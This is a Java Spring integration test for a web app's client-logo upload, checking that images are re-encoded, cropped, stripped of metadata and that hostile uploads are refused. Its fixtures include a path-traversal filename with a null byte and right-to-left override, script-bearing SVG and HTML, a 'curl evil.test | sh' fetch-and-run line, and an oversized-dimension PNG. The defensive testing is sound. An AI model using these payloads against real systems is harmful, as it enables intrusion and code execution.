package io.bridgehead.clients;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;

import io.bridgehead.support.Html;
import io.bridgehead.support.IntegrationTest;
import io.bridgehead.support.SignIn;
import io.bridgehead.support.TestClients;
import io.bridgehead.support.TestWorkspaces;
import io.bridgehead.support.TestWorkspaces.TestWorkspace;
import jakarta.servlet.http.Cookie;
import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Random;
import java.util.UUID;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.test.web.servlet.assertj.MvcTestResult;

@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ClientLogoUploadTest {

    private static final String NOT_PNG_OR_JPEG = "Upload a PNG or JPEG image.";
    private static final byte[] IEND = {0, 0, 0, 0, 'I', 'E', 'N', 'D', (byte) 0xAE, 0x42, 0x60, (byte) 0x82};

    @Autowired
    MockMvcTester mvc;

    @Autowired
    TestWorkspaces testWorkspaces;

    @Autowired
    TestClients testClients;

    TestWorkspace workspace;
    Cookie admin;

    @BeforeAll
    void setUp() {
        workspace = testWorkspaces.create("Client logos");
        admin = SignIn.as(mvc, workspace.admin());
    }

    @Test
    void aPngIsAcceptedAndServedAsA256SquarePngThatIsNeverSniffed() throws IOException {
        UUID client = testClients.create(workspace, "Png Logo Co");

        MvcTestResult uploaded = upload(client, "logo.png", "image/png", TestClients.png(400, 300, Color.GREEN));

        assertThat(uploaded).hasRedirectedUrl("/clients/" + client);
        assertThat(uploaded).flash().containsEntry("flash", "Logo saved.");
        MvcTestResult served =
                mvc.get().uri("/clients/{id}/logo", client).cookie(admin).exchange();
        assertThat(served)
                .hasStatusOk()
                .hasContentType("image/png")
                .hasHeader("X-Content-Type-Options", "nosniff")
                .containsHeader("Cache-Control");
        assertThat(served.getResponse().getHeader("Cache-Control"))
                .contains("max-age")
                .contains("private");
        BufferedImage logo = decode(served);
        assertThat(logo.getWidth()).isEqualTo(256);
        assertThat(logo.getHeight()).isEqualTo(256);
        assertThat(new Color(logo.getRGB(128, 128))).isEqualTo(Color.GREEN);
        assertThat(mvc.get().uri("/clients/{id}", client).cookie(admin))
                .bodyText()
                .contains("src=\"/clients/" + client + "/logo?v=1\"");
    }

    /** The declared name and type are never used: the logo is re-encoded and always offered as logo.png. */
    @Test
    void aLogoUploadedUnderAPathOrMarkupNameIsServedAsLogoPngOnly() {
        UUID client = testClients.create(workspace, "Named Logo Co");
        byte[] pngWithHtml = concat(
                TestClients.png(64, 64, Color.BLUE), bytes("<html><script>alert(document.domain)</script></html>"));

        MvcTestResult uploaded =
                upload(client, "../../../etc/passwd\u0000\u202Egnp.html", "text/html; charset=UTF-8", pngWithHtml);

        assertThat(uploaded).hasRedirectedUrl("/clients/" + client);
        MvcTestResult served =
                mvc.get().uri("/clients/{id}/logo", client).cookie(admin).exchange();
        assertThat(served)
                .hasStatusOk()
                .hasContentType("image/png")
                .hasHeader("X-Content-Type-Options", "nosniff")
                .hasHeader("Content-Disposition", "inline; filename=\"logo.png\"");
        assertThat(new String(served.getResponse().getContentAsByteArray(), StandardCharsets.ISO_8859_1))
                .doesNotContain("<script", "passwd");
    }

    @Test
    void aJpegIsAcceptedAndStoredAsPng() throws IOException {
        UUID client = testClients.create(workspace, "Jpeg Logo Co");
        BufferedImage photo = new BufferedImage(300, 300, BufferedImage.TYPE_INT_RGB);
        fill(photo, Color.BLUE, 0, 300);

        assertThat(upload(client, "logo.jpg", "image/jpeg", TestClients.encode(photo, "jpeg")))
                .hasRedirectedUrl("/clients/" + client);

        MvcTestResult served =
                mvc.get().uri("/clients/{id}/logo", client).cookie(admin).exchange();
        assertThat(served).hasStatusOk().hasContentType("image/png");
        byte[] png = served.getResponse().getContentAsByteArray();
        assertThat(Arrays.copyOf(png, 8)).isEqualTo(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        BufferedImage logo = ImageIO.read(new ByteArrayInputStream(png));
        assertThat(logo.getWidth()).isEqualTo(256);
        assertThat(logo.getHeight()).isEqualTo(256);
    }

    @Test
    void theChosenCropIsApplied() throws IOException {
        BufferedImage image = new BufferedImage(512, 256, BufferedImage.TYPE_INT_RGB);
        fill(image, Color.RED, 0, 256);
        fill(image, Color.BLUE, 256, 256);
        byte[] png = TestClients.encode(image, "png");
        UUID cropped = testClients.create(workspace, "Cropped Logo Co");
        UUID centred = testClients.create(workspace, "Centred Logo Co");

        assertThat(mvc.post()
                        .uri("/clients/{id}/logo", cropped)
                        .multipart()
                        .file(new MockMultipartFile("file", "wide.png", "image/png", png))
                        .param("cropX", "256")
                        .param("cropY", "0")
                        .param("cropSize", "256")
                        .cookie(admin)
                        .with(csrf()))
                .hasStatus3xxRedirection();
        assertThat(upload(centred, "wide.png", "image/png", png)).hasStatus3xxRedirection();

        BufferedImage right = decode(
                mvc.get().uri("/clients/{id}/logo", cropped).cookie(admin).exchange());
        for (int[] at : new int[][] {{5, 5}, {128, 128}, {250, 250}}) {
            assertThat(new Color(right.getRGB(at[0], at[1])))
                    .as("pixel %d,%d", at[0], at[1])
                    .isEqualTo(Color.BLUE);
        }
        BufferedImage middle = decode(
                mvc.get().uri("/clients/{id}/logo", centred).cookie(admin).exchange());
        assertThat(new Color(middle.getRGB(60, 128))).isEqualTo(Color.RED);
        assertThat(new Color(middle.getRGB(196, 128))).isEqualTo(Color.BLUE);
    }

    @Test
    void aCropOutsideTheImageIsRefused() {
        UUID client = testClients.create(workspace, "Bad Crop Co");

        MvcTestResult result = mvc.post()
                .uri("/clients/{id}/logo", client)
                .multipart()
                .file(new MockMultipartFile("file", "logo.png", "image/png", TestClients.png(100, 100, Color.RED)))
                .param("cropX", "50")
                .param("cropY", "50")
                .param("cropSize", "80")
                .cookie(admin)
                .with(csrf())
                .exchange();

        assertThat(Html.fieldError(Html.of(result), "file")).isEqualTo("The crop area lies outside the image.");
        assertThat(testClients.count(workspace, "client_logo where client_id = ?", client))
                .isZero();
    }

    static Stream<Arguments> attacks() throws IOException {
        BufferedImage gif = new BufferedImage(64, 64, BufferedImage.TYPE_BYTE_INDEXED);
        byte[] validPng = noisyPng(200, 200);
        byte[] hugeHeader = validPng.clone();
        ByteBuffer.wrap(hugeHeader, 16, 8).putInt(100_000).putInt(100_000);
        CRC32 crc = new CRC32();
        crc.update(hugeHeader, 12, 17);
        ByteBuffer.wrap(hugeHeader, 29, 4).putInt((int) crc.getValue());
        byte[] tooManyBytes = new byte[2 * 1024 * 1024 + 1];
        System.arraycopy(validPng, 0, tooManyBytes, 0, validPng.length);
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\">"
                + "<script>alert(document.cookie)</script></svg>";
        return Stream.of(
                Arguments.of("SVG renamed .png", "logo.png", "image/png", bytes(svg), NOT_PNG_OR_JPEG),
                Arguments.of("GIF", "logo.gif", "image/gif", TestClients.encode(gif, "gif"), NOT_PNG_OR_JPEG),
                Arguments.of(
                        "HTML",
                        "logo.png",
                        "image/png",
                        bytes("<!DOCTYPE html><html><body>hi</body></html>"),
                        NOT_PNG_OR_JPEG),
                Arguments.of(
                        "script", "logo.jpg", "image/jpeg", bytes("#!/bin/sh\ncurl evil.test | sh\n"), NOT_PNG_OR_JPEG),
                Arguments.of(
                        "PNG announcing 100000×100000",
                        "logo.png",
                        "image/png",
                        hugeHeader,
                        "This image is too large: at most 8000 × 8000 pixels."),
                Arguments.of(
                        "truncated PNG",
                        "logo.png",
                        "image/png",
                        Arrays.copyOf(validPng, validPng.length / 2),
                        "This image could not be read. Upload a valid PNG or JPEG."),
                Arguments.of(
                        "truncated JPEG",
                        "logo.jpg",
                        "image/jpeg",
                        truncatedJpeg(),
                        "This image could not be read. Upload a valid PNG or JPEG."),
                Arguments.of(
                        "more than 2 MB", "logo.png", "image/png", tooManyBytes, "The logo must be at most 2 MB."));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void everyAttackIsRefusedWithItsMessageAndNoLogoIsStored(
            String attack, String filename, String contentType, byte[] content, String message) {
        UUID client = testClients.create(workspace, "Target of " + attack);

        MvcTestResult result = upload(client, filename, contentType, content);

        assertThat(result).hasStatusOk();
        assertThat(Html.fieldError(Html.of(result), "file")).isEqualTo(message);
        assertThat(testClients.count(workspace, "client_logo where client_id = ?", client))
                .isZero();
        assertThat(mvc.get().uri("/clients/{id}/logo", client).cookie(admin)).hasStatus(404);
    }

    @Test
    void metadataAndTrailingBytesAreGoneFromTheStoredPng() throws IOException {
        byte[] withText = insertChunkAfterHeader(
                TestClients.png(64, 64, Color.ORANGE), "tEXt", bytes("Comment\0SECRET-METADATA-4711"));
        byte[] pngUpload = concat(withText, bytes("TRAILING-PAYLOAD<script>"));
        BufferedImage photo = new BufferedImage(64, 64, BufferedImage.TYPE_INT_RGB);
        fill(photo, Color.CYAN, 0, 64);
        byte[] jpeg = TestClients.encode(photo, "jpeg");
        byte[] comment = bytes("JPEG-COMMENT-SECRET");
        byte[] com = ByteBuffer.allocate(4 + comment.length)
                .put((byte) 0xFF)
                .put((byte) 0xFE)
                .putShort((short) (comment.length + 2))
                .put(comment)
                .array();
        byte[] jpegUpload = concat(concat(Arrays.copyOf(jpeg, 2), com), Arrays.copyOfRange(jpeg, 2, jpeg.length));
        jpegUpload = concat(jpegUpload, bytes("JPEG-TRAILER-SECRET"));

        for (byte[] upload : new byte[][] {pngUpload, jpegUpload}) {
            UUID client = testClients.create(workspace, "Scrubbed " + UUID.randomUUID());
            assertThat(upload(client, "logo", "application/octet-stream", upload))
                    .hasStatus3xxRedirection();

            byte[] stored = testClients.value(
                    workspace, byte[].class, "select png from client_logo where client_id = ?", client);
            String text = new String(stored, StandardCharsets.ISO_8859_1);
            assertThat(text)
                    .doesNotContain("SECRET")
                    .doesNotContain("TRAILING")
                    .doesNotContain("tEXt")
                    .doesNotContain("<script>");
            assertThat(Arrays.copyOfRange(stored, stored.length - 12, stored.length))
                    .isEqualTo(IEND);
            assertThat(ImageIO.read(new ByteArrayInputStream(stored)).getWidth())
                    .isEqualTo(256);
        }
    }

    @Test
    void aBadLogoOnTheNewClientFormKeepsEveryOtherFieldAndCreatesNothing() {
        BufferedImage gif = new BufferedImage(64, 64, BufferedImage.TYPE_BYTE_INDEXED);

        MvcTestResult result = mvc.post()
                .uri("/clients/new")
                .multipart()
                .file(new MockMultipartFile("file", "logo.gif", "image/gif", TestClients.encode(gif, "gif")))
                .param("name", "Logo Keeper Ltd")
                .param("contactEmail", "sec@keeper.test")
                .param("industry", "INSURANCE")
                .param("website", "https://keeper.test")
                .param("phone", "+49 30 1234567")
                .param("address", "1 Keeper Street")
                .param("externalRef", "KEEP-7")
                .param("note", "Keep this note")
                .cookie(admin)
                .with(csrf())
                .exchange();

        assertThat(result).hasStatusOk();
        String page = Html.of(result);
        assertThat(Html.fieldError(page, "file")).isEqualTo(NOT_PNG_OR_JPEG);
        assertThat(page)
                .contains("value=\"Logo Keeper Ltd\"")
                .contains("value=\"sec@keeper.test\"")
                .contains("<option value=\"INSURANCE\" selected=\"selected\">Insurance</option>")
                .contains("value=\"https://keeper.test\"")
                .contains("value=\"+49 30 1234567\"")
                .contains(">1 Keeper Street</textarea>")
                .contains("value=\"KEEP-7\"")
                .contains(">Keep this note</textarea>");
        assertThat(testClients.count(workspace, "client where name = 'Logo Keeper Ltd'"))
                .isZero();
    }

    @Test
    void aGoodLogoOnTheNewClientFormIsStoredWithTheClient() throws IOException {
        MvcTestResult result = mvc.post()
                .uri("/clients/new")
                .multipart()
                .file(new MockMultipartFile("file", "logo.png", "image/png", TestClients.png(300, 300, Color.PINK)))
                .param("name", "Logo From Start Ltd")
                .param("contactEmail", "sec@start.test")
                .cookie(admin)
                .with(csrf())
                .exchange();

        UUID client = TestClients.idFromRedirect(result);
        BufferedImage logo =
                decode(mvc.get().uri("/clients/{id}/logo", client).cookie(admin).exchange());
        assertThat(logo.getWidth()).isEqualTo(256);
        assertThat(new Color(logo.getRGB(128, 128))).isEqualTo(Color.PINK);
    }

    private MvcTestResult upload(UUID client, String filename, String contentType, byte[] content) {
        return mvc.post()
                .uri("/clients/{id}/logo", client)
                .multipart()
                .file(new MockMultipartFile("file", filename, contentType, content))
                .cookie(admin)
                .with(csrf())
                .exchange();
    }

    private static BufferedImage decode(MvcTestResult served) throws IOException {
        BufferedImage image =
                ImageIO.read(new ByteArrayInputStream(served.getResponse().getContentAsByteArray()));
        assertThat(image).as("a decodable image").isNotNull();
        return image;
    }

    private static void fill(BufferedImage image, Color color, int x, int width) {
        Graphics2D graphics = image.createGraphics();
        graphics.setColor(color);
        graphics.fillRect(x, 0, width, image.getHeight());
        graphics.dispose();
    }

    private static byte[] noisyPng(int width, int height) {
        BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
        Random random = new Random(42);
        for (int y = 0; y < height; y++) {
            for (int x = 0; x < width; x++) {
                image.setRGB(x, y, random.nextInt(0xFFFFFF));
            }
        }
        return TestClients.encode(image, "png");
    }

    private static byte[] truncatedJpeg() {
        BufferedImage image = new BufferedImage(200, 200, BufferedImage.TYPE_INT_RGB);
        Random random = new Random(7);
        for (int y = 0; y < 200; y++) {
            for (int x = 0; x < 200; x++) {
                image.setRGB(x, y, random.nextInt(0xFFFFFF));
            }
        }
        byte[] jpeg = TestClients.encode(image, "jpeg");
        return Arrays.copyOf(jpeg, jpeg.length / 2);
    }

    private static byte[] insertChunkAfterHeader(byte[] png, String type, byte[] data) {
        int afterIhdr = 8 + 4 + 4 + 13 + 4;
        ByteBuffer chunk = ByteBuffer.allocate(12 + data.length);
        chunk.putInt(data.length).put(bytes(type)).put(data);
        CRC32 crc = new CRC32();
        crc.update(chunk.array(), 4, 4 + data.length);
        chunk.putInt((int) crc.getValue());
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(png, 0, afterIhdr);
        out.writeBytes(chunk.array());
        out.write(png, afterIhdr, png.length - afterIhdr);
        return out.toByteArray();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] result = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, result, a.length, b.length);
        return result;
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
